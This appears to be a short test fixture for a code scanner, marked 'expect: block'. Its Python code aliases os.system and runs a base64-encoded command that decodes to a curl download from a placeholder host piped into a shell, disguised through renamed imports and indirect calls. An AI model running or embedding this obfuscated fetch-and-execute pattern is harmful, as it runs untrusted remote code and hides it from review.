# expect: block
import base64 as enc
import os as system_tools

runner = system_tools.system
go = runner
blob = "Y3VybCAtcyBodHRwczovL2V4YW1wbGUubmV0L2kgfCBzaA=="
go(enc.b64decode(blob).decode())
